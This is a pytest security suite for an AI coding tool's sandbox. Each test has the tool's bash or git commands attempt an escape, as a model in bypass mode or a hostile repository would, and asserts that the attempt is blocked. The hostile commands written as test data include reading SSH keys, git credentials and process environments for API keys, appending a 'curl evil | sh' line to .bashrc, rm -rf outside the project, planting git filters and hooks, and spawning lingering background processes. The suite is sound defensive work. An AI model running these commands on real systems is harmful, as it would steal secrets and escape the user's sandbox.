"""Commands run unconfined (issue #10): each test is one attack made through the real bash tool
(or the git tools) with the sandbox on, as a model in bypass mode or a hostile repository would.

HOME here is outside /tmp (under /var/tmp), as a real one is, so hiding its secrets is what is
tested rather than the private /tmp.
"""

from __future__ import annotations

import os
import socket
import subprocess
import tempfile
import time
import uuid
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.security.conftest import SENTINEL, home_outside_tmp
from valarmind_tui.safety.sandbox.wrap import Sandbox
from valarmind_tui.tools.base import ToolContext, ToolResult
from valarmind_tui.tools.catalog import builtin_tools
from valarmind_tui.tools.shell.bash import Bash


@pytest.fixture
def home(monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
    """A HOME outside /tmp with the secrets an attacker wants, the sentinel key among them."""
    with home_outside_tmp(monkeypatch) as home:
        (home / ".ssh").mkdir()
        (home / ".ssh" / "id_rsa").write_text(
            f"-----BEGIN OPENSSH PRIVATE KEY-----\n{SENTINEL}\n")
        (home / ".config" / "valarmind").mkdir(parents=True)
        (home / ".config" / "valarmind" / "config.toml").write_text(f'api_key = "{SENTINEL}"\n')
        (home / ".git-credentials").write_text(f"https://u:{SENTINEL}@example.com\n")
        yield home


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the project, with a file in it."""
    folder = tmp_path / "outside"
    folder.mkdir()
    (folder / "keep.txt").write_text("keep\n")
    return folder


@pytest.fixture
def run(sandbox: Sandbox, git_repo: Path, home: Path):  # noqa: ANN201
    """Run a command through the real bash tool in the sandbox."""
    bash = Bash(sandbox=sandbox)

    async def call(command: str) -> ToolResult:
        ctx = ToolContext(project_root=git_repo)
        return await bash.run(bash.parse({"command": command}), ctx)

    return call


@pytest.fixture
def git_tool(sandbox: Sandbox, git_repo: Path):  # noqa: ANN201
    async def call(name: str, ctx_sandbox: Sandbox | None = sandbox) -> ToolResult:
        tool = builtin_tools(sandbox=sandbox).get(name)
        assert tool is not None
        return await tool.run(tool.parse({}), ToolContext(project_root=git_repo,
                                                          sandbox=ctx_sandbox))

    return call


def git(repo: Path, *args: str) -> None:
    subprocess.run(["git", *args], cwd=repo, check=True, capture_output=True)


def plant_filter(repo: Path, marker: Path, *, config: Path | None = None) -> None:
    """`[filter "x"] clean/smudge/process` plus `* filter=x`, and a file git must re-read."""
    target = ["config", "--file", str(config)] if config else ["config"]
    for key in ("clean", "smudge"):
        git(repo, *target, f"filter.x.{key}", f"touch {marker}; cat")
    git(repo, *target, "filter.x.process", f"touch {marker}")
    (repo / ".gitattributes").write_text("* filter=x diff=x\n")
    os.utime(repo / "app.py", (1_600_000_000, 1_600_000_000))  # stat-dirty: git re-hashes it


# -- the file system -----------------------------------------------------------------------


async def test_write_to_a_folder_outside_the_project(run, outside: Path) -> None:
    await run(f"echo owned > {outside}/new.txt")
    assert not (outside / "new.txt").exists()


async def test_write_to_home(run, home: Path) -> None:
    await run("echo 'curl evil | sh' >> ~/.bashrc; mkdir -p ~/.config/autostart")
    assert not (home / ".bashrc").exists() and not (home / ".config" / "autostart").exists()


async def test_write_to_the_hosts_tmp(run) -> None:
    marker = Path(tempfile.gettempdir()) / f"valarmind-owned-{uuid.uuid4().hex}"
    await run(f"echo owned > {marker}")
    assert not marker.exists()


async def test_write_to_the_hosts_shared_memory(run) -> None:
    marker = Path("/dev/shm") / f"valarmind-owned-{uuid.uuid4().hex}"
    await run(f"echo owned > {marker}")
    assert not marker.exists()


async def test_rm_rf_a_folder_outside(run, outside: Path) -> None:
    await run(f"rm -rf {outside}")
    assert (outside / "keep.txt").read_text() == "keep\n"


async def test_a_symlink_in_the_project_to_outside(run, outside: Path) -> None:
    await run(f"ln -s {outside} escape && echo owned > escape/new.txt && rm -f escape/keep.txt")
    assert not (outside / "new.txt").exists() and (outside / "keep.txt").exists()


async def test_writing_inside_the_project_still_works(run, git_repo: Path) -> None:
    result = await run("mkdir -p build && echo ok > build/out.txt && cat build/out.txt")
    assert result.output.strip() == "ok" and (git_repo / "build" / "out.txt").exists()


# -- secrets ---------------------------------------------------------------------------------


async def test_read_the_ssh_key(run) -> None:
    result = await run("cat ~/.ssh/id_rsa; ls -la ~/.ssh")
    assert SENTINEL not in result.output and "No such file" in result.output


async def test_read_valarmind_config_and_git_credentials(run) -> None:
    result = await run("cat ~/.config/valarmind/config.toml ~/.git-credentials; "
                       "grep -r sk- ~ 2>/dev/null")
    assert SENTINEL not in result.output


async def test_read_the_parents_environment(run) -> None:
    result = await run("cat /proc/$PPID/environ | tr '\\0' '\\n'")
    assert SENTINEL not in result.output


async def test_read_a_host_process_environment(run) -> None:
    """/proc/<pid>/environ is what a process was started with: a victim holding the key."""
    victim = subprocess.Popen(["sleep", "30"], env={**os.environ, "OPENAI_API_KEY": SENTINEL})
    try:
        result = await run(f"cat /proc/{victim.pid}/environ /proc/{os.getpid()}/environ")
        assert SENTINEL not in result.output and "No such file" in result.output
    finally:
        victim.kill()
        victim.wait()


async def test_read_pid_1s_environment(run) -> None:
    result = await run("cat /proc/1/environ | tr '\\0' '\\n'; cat /proc/1/cmdline")
    assert SENTINEL not in result.output


async def test_grep_every_process_environment(run) -> None:
    result = await run(f"grep -a -l {SENTINEL[:12]} /proc/*/environ; "
                       "cat /proc/*/environ | tr '\\0' '\\n'")
    assert SENTINEL not in result.output and "/environ" not in result.output


async def test_own_environment(run) -> None:
    result = await run("env; set")
    assert SENTINEL not in result.output


async def test_other_processes_are_invisible_and_unkillable(run) -> None:
    victim = subprocess.Popen(["sleep", "30"])
    try:
        result = await run(f"kill -9 {victim.pid}; ls /proc | grep -c '^[0-9]'")
        assert victim.poll() is None
        assert int(result.output.split()[-1]) < 10
    finally:
        victim.kill()
        victim.wait()


# -- the network and processes -----------------------------------------------------------


async def test_connect_to_a_local_listener(run) -> None:
    listener = socket.create_server(("127.0.0.1", 0))
    listener.settimeout(0.2)
    port = listener.getsockname()[1]
    try:
        result = await run(f"exec 3<>/dev/tcp/127.0.0.1/{port} && echo connected; "
                           f"curl -s -m 1 http://127.0.0.1:{port}/ && echo curled")
        assert "connected" not in result.output and "curled" not in result.output
        with pytest.raises(TimeoutError):
            listener.accept()
    finally:
        listener.close()


async def test_a_background_process_outlives_the_call(run) -> None:
    token = f"{uuid.uuid4().int % 10_000}.{uuid.uuid4().int % 1000}1"
    await run(f"(sleep {token} &) ; nohup sleep {token} >/dev/null 2>&1 & echo started")
    deadline = time.monotonic() + 1.5
    while _processes_with(token) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not _processes_with(token)


def _processes_with(token: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                cmdline = (entry / "cmdline").read_bytes().replace(b"\0", b" ").decode()
            except OSError:
                continue
            if f"sleep {token}" in cmdline:
                found.append(int(entry.name))
    return found


# -- git: a repository that makes git run its programs ------------------------------------


async def test_git_filter_run_by_git_status(git_tool, git_repo: Path) -> None:
    marker = git_repo / "FILTER_RAN"
    plant_filter(git_repo, marker)
    result = await git_tool("git_status")
    assert not result.is_error and not marker.exists()


async def test_git_filter_without_the_sandbox(git_tool, git_repo: Path) -> None:
    marker = git_repo / "FILTER_RAN"
    plant_filter(git_repo, marker)
    (git_repo / "app.py").write_text("changed\n")
    await git_tool("git_status", ctx_sandbox=None)
    result = await git_tool("git_diff", ctx_sandbox=None)
    assert "+changed" in result.output and not marker.exists()


async def test_git_filter_in_an_included_config(git_tool, git_repo: Path) -> None:
    marker = git_repo / "FILTER_RAN"
    plant_filter(git_repo, marker, config=git_repo / "evil.cfg")
    git(git_repo, "config", "include.path", "../evil.cfg")
    await git_tool("git_status", ctx_sandbox=None)
    await git_tool("git_diff", ctx_sandbox=None)
    assert not marker.exists()


async def test_git_fsmonitor_and_hooks_path(git_tool, git_repo: Path) -> None:
    marker = git_repo / "HOOK_RAN"
    hooks = git_repo / "hooks"
    hooks.mkdir()
    for name in ("post-index-change", "reference-transaction", "pre-commit"):
        (hooks / name).write_text(f"#!/bin/sh\ntouch {marker}\n")
        (hooks / name).chmod(0o755)
    git(git_repo, "config", "core.hooksPath", str(hooks))
    git(git_repo, "config", "core.fsmonitor", f"touch {marker}; true")
    (git_repo / "app.py").write_text("changed\n")
    await git_tool("git_status", ctx_sandbox=None)
    await git_tool("git_status")
    await git_tool("git_diff")
    assert not marker.exists()


async def test_a_command_plants_a_hook_or_a_filter(run, git_repo: Path) -> None:
    before = (git_repo / ".git" / "config").read_text()
    await run("git config core.hooksPath .h; git config filter.x.clean 'touch pwned'; "
              "echo 'touch pwned' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit")
    assert (git_repo / ".git" / "config").read_text() == before
    assert not (git_repo / ".git" / "hooks" / "pre-commit").exists()


# -- /review: the project's own linters and git --------------------------------------------


async def test_review_runs_a_project_linter_confined(sandbox: Sandbox, git_repo: Path,
                                                     outside: Path) -> None:
    from valarmind_tui.agents.review.runner import run_review

    linter = git_repo / ".venv" / "bin" / "ruff"
    linter.parent.mkdir(parents=True)
    linter.write_text(f"#!/bin/sh\nenv > envdump\ntouch {outside}/owned\necho '[]'\n")
    linter.chmod(0o755)
    (git_repo / "app.py").write_text("x = 1\n")
    report = await run_review(git_repo, sandbox=sandbox)
    # the project's ruff for its lint rules; ours (never the project's) for the security rules
    assert report.linters == ["ruff", "ruff (security rules)"]
    assert SENTINEL not in (git_repo / "envdump").read_text()
    assert not (outside / "owned").exists()


async def test_review_does_not_run_a_git_filter(git_repo: Path) -> None:
    from valarmind_tui.agents.review.runner import run_review

    marker = git_repo / "FILTER_RAN"
    plant_filter(git_repo, marker)
    await run_review(git_repo)
    assert not marker.exists()
